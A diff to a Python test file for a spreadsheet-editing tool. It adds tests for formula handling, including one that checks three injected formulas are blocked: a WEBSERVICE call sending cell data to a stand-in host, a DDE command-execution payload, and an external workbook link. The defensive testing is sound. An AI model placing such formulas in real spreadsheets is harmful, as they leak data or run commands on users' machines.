@@ -9,6 +9,7 @@ from typing import Any
 import openpyxl
 import pytest
 import xlsxwriter
+from openpyxl.chart import BarChart, Reference
 
 from auteryn.tools.registry import Registry
 from auteryn.tools.sheet import sheet_create, sheet_read
@@ -186,3 +187,39 @@ def test_rows_are_added_once_however_often_the_call_is_repeated(room: Room) -> N
 def test_without_its_library_the_tool_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr("importlib.util.find_spec", lambda name: None)
     assert "office" in Registry([sheet_update]).hidden["sheet_update"]
+
+
+@pytest.mark.proves("L14")
+def test_a_formula_that_reaches_out_is_not_written_here_either(room: Room) -> None:
+    room.call(sheet_create, path="a.xlsx", sheets=[BOOK])
+    before = room.files.read("a.xlsx")
+    for formula in ('=WEBSERVICE("https://x.test/?"&A2)', "=cmd|'/c calc'!A0", "='[other.xlsx]S'!A1"):
+        assert room.refusal(sheet_update, path="a.xlsx", edits={"D2": formula}).kind == "blocked"
+        assert room.refusal(sheet_update, path="a.xlsx", append_rows=[["x", formula]]).kind == "blocked"
+    assert room.files.read("a.xlsx") == before
+
+
+def test_old_days_and_texts_that_look_like_errors_stay_text(room: Room) -> None:
+    room.call(sheet_create, path="a.xlsx", sheets=[BOOK])
+    room.call(sheet_update, path="a.xlsx", edits={"D2": "1850-01-01", "D3": '="#"&B2'})
+    book = openpyxl.load_workbook(io.BytesIO(room.files.read("a.xlsx")), data_only=True)
+    assert [(book["Prices"][cell].value, book["Prices"][cell].data_type) for cell in ("D2", "D3")] == [
+        ("1850-01-01", "s"),
+        ("#10", "s"),
+    ]
+
+
+def test_formulas_behind_a_sheet_that_is_a_chart_show_their_own_values(room: Room) -> None:
+    book = openpyxl.Workbook()
+    book.active.title = "One"
+    book["One"].append([1, "=A1*2"])
+    chart = BarChart()
+    chart.add_data(Reference(book["One"], min_col=1, min_row=1, max_row=1))
+    book.create_chartsheet("Picture").add_chart(chart)
+    book.create_sheet("Two").append([10, "=A1*2"])
+    out = io.BytesIO()
+    book.save(out)
+    room.put("a.xlsx", out.getvalue())
+    room.call(sheet_update, path="a.xlsx", sheet="Two", edits={"A1": 11})
+    shown = openpyxl.load_workbook(io.BytesIO(room.files.read("a.xlsx")), data_only=True)
+    assert (shown["One"]["B1"].value, shown["Two"]["B1"].value) == (2, 22)
